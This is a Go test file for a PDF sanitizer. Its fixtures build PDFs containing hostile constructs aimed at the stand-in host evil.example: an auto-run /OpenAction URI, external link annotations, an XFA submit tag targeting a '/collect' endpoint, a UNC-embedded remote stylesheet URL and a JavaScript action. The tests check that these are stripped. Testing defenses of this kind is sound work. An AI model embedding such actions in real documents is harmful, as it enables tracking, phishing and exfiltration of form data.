package sanitize

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// buildPDF assembles a minimal classic-xref PDF from a set of "N G obj
// ... endobj" bodies, computing byte offsets as it writes rather than
// hand-counting them, the same way the writer package's WriteDocument
// method does. rootRef is the trailer's /Root value, e.g. "1 0 R".
func buildPDF(t *testing.T, objs []string, rootRef string) []byte {
	t.Helper()
	var buf bytes.Buffer
	buf.WriteString("%PDF-1.7\n")
	offsets := make([]int64, len(objs)+1)
	for i, body := range objs {
		offsets[i+1] = int64(buf.Len())
		buf.WriteString(body)
		if !strings.HasSuffix(body, "\n") {
			buf.WriteString("\n")
		}
	}
	xrefOffset := buf.Len()
	fmt.Fprintf(&buf, "xref\n0 %d\n", len(objs)+1)
	buf.WriteString("0000000000 65535 f \n")
	for i := 1; i <= len(objs); i++ {
		fmt.Fprintf(&buf, "%010d 00000 n \n", offsets[i])
	}
	fmt.Fprintf(&buf, "trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF", len(objs)+1, rootRef, xrefOffset)
	return buf.Bytes()
}

func mustContain(t *testing.T, haystack []byte, needle string) {
	t.Helper()
	if !bytes.Contains(haystack, []byte(needle)) {
		t.Fatalf("expected output to contain %q, got:\n%s", needle, haystack)
	}
}

func mustNotContain(t *testing.T, haystack []byte, needle string) {
	t.Helper()
	if bytes.Contains(haystack, []byte(needle)) {
		t.Fatalf("expected output not to contain %q, got:\n%s", needle, haystack)
	}
}

func reportContains(report Report, substr string) bool {
	for _, item := range report.Items {
		if strings.Contains(item, substr) {
			return true
		}
	}
	return false
}

// Scenario 1: OpenAction/URI.
func TestSanitizeOpenActionURI(t *testing.T) {
	pdf := buildPDF(t, []string{
		"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://evil.example) >> >>\nendobj",
		"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj",
		"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>\nendobj",
	}, "1 0 R")

	out, report := Sanitize(pdf, DefaultOptions())

	mustNotContain(t, out, "/OpenAction")
	mustNotContain(t, out, "evil.example")
	if !reportContains(report, "OpenAction") {
		t.Fatalf("expected report to mention OpenAction removal, got %v", report.Items)
	}
}

// Scenario 2: external link annotation is dropped from /Annots.
func TestSanitizeExternalLinkAnnotation(t *testing.T) {
	pdf := buildPDF(t, []string{
		"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj",
		"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj",
		"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Annots [4 0 R] >>\nendobj",
		"4 0 obj\n<< /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://evil.example/x) >> >>\nendobj",
	}, "1 0 R")

	out, report := Sanitize(pdf, DefaultOptions())

	mustNotContain(t, out, "evil.example")
	if !reportContains(report, "external link annotation") {
		t.Fatalf("expected report to mention external link annotation removal, got %v", report.Items)
	}
}

// Scenario 3: internal GoTo links are preserved.
func TestSanitizeInternalGoToPreserved(t *testing.T) {
	pdf := buildPDF(t, []string{
		"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj",
		"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj",
		"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Annots [4 0 R] >>\nendobj",
		"4 0 obj\n<< /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>\nendobj",
	}, "1 0 R")

	out, report := Sanitize(pdf, DefaultOptions())

	mustContain(t, out, "/GoTo")
	if reportContains(report, "link annotation") {
		t.Fatalf("internal GoTo link should be preserved, but report says %v", report.Items)
	}
}

// Scenario 4: XFA submit to an HTTP target is neutralized, and the overall
// buffer length is unchanged. Routed through the byte-level catalog
// directly: XFA payloads live inside opaque stream bodies the structural
// pass never reaches (outside the final URL-only sweep), so the rules
// that neutralize submit tags only run on the byte-level path.
func TestByteLevelXFASubmitToHTTP(t *testing.T) {
	data := []byte("/AcroForm << /XFA 5 0 R >>\nstream\n<xdp:xdp><config/><template><subform><field/></subform></template>" +
		`<xdp:submit target="http://evil.example/collect"/>` +
		"</xdp:xdp>\nendstream\n")

	out, report := ByteLevelSanitize(data, DefaultOptions())

	if len(out) != len(data) {
		t.Fatalf("expected length-preserving output, got %d want %d", len(out), len(data))
	}
	mustNotContain(t, out, "evil.example")
	mustNotContain(t, out, "<xdp:submit")
	if !reportContains(report, "XFA submit") {
		t.Fatalf("expected report to mention XFA submit handling, got %v", report.Items)
	}
}

// Scenario 5: UNC-embedded URL is blanked, exact length preserved.
func TestByteLevelUNCURL(t *testing.T) {
	data := []byte(`some XFA field default value: \\http://evil.example\a.xslt and more text`)

	out, report := ByteLevelSanitize(data, DefaultOptions())

	if len(out) != len(data) {
		t.Fatalf("expected length-preserving output, got %d want %d", len(out), len(data))
	}
	mustNotContain(t, out, "evil.example")
	if !reportContains(report, "UNC") {
		t.Fatalf("expected report to mention UNC URL removal, got %v", report.Items)
	}
}

// Scenario 6: XML namespace URLs are preserved byte-identically.
func TestByteLevelNamespaceURLPreserved(t *testing.T) {
	data := []byte(`<stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"></stylesheet>`)

	out, report := ByteLevelSanitize(data, DefaultOptions())

	if !bytes.Equal(out, data) {
		t.Fatalf("namespace URL must be preserved byte-identically:\ngot:  %s\nwant: %s", out, data)
	}
	if !report.clean() {
		t.Fatalf("expected empty report for namespace-only content, got %v", report.Items)
	}
}

// Universal invariant: binary stream regions are never touched.
func TestBinaryRegionImmutability(t *testing.T) {
	data := []byte("/Foo /Bar\nstream\n" + "http://evil.example binary payload \x00\x01\x02" + "\nendstream\n")
	idx := BuildIndex(data)
	regions := idx.All()
	if len(regions) != 1 || regions[0].Class != Binary {
		t.Fatalf("expected one Binary region, got %+v", regions)
	}

	out, _ := ByteLevelSanitize(data, DefaultOptions())
	for i := regions[0].Start; i < regions[0].End; i++ {
		if out[i] != data[i] {
			t.Fatalf("byte %d inside binary region was mutated: got %q want %q", i, out[i], data[i])
		}
	}
}

// Universal invariant: all-false options produce an empty report and
// byte-identical output.
func TestAllFalseOptionsNoOp(t *testing.T) {
	data := []byte(`/OpenAction << /S /URI /URI (http://evil.example) >> http://also.example`)
	out, report := ByteLevelSanitize(data, Options{})
	if !report.clean() {
		t.Fatalf("expected empty report with all-false options, got %v", report.Items)
	}
	if !bytes.Equal(out, data) {
		t.Fatalf("expected byte-identical output with all-false options")
	}
}

// Universal invariant: idempotence on the byte-level path.
func TestByteLevelIdempotent(t *testing.T) {
	data := []byte(`/OpenAction << /S /URI /URI (http://evil.example) >> /AA << /S /JavaScript >> https://another.example/path`)
	opts := DefaultOptions()
	once, _ := ByteLevelSanitize(data, opts)
	twice, report := ByteLevelSanitize(once, opts)
	if !bytes.Equal(once, twice) {
		t.Fatalf("second pass should be a no-op:\nfirst:  %s\nsecond: %s", once, twice)
	}
	_ = report
}

// Length preservation on the byte-level fallback path: a document the
// structural parser cannot load still yields same-length output.
func TestSanitizeLengthPreservedOnFallback(t *testing.T) {
	data := []byte(`not a real pdf at all /OpenAction << /S /URI /URI (http://evil.example) >>`)
	out, report := Sanitize(data, DefaultOptions())
	if len(out) != len(data) {
		t.Fatalf("expected fallback path to preserve length, got %d want %d", len(out), len(data))
	}
	if report.Warning == "" {
		t.Fatalf("expected a warning explaining the structural fallback")
	}
}
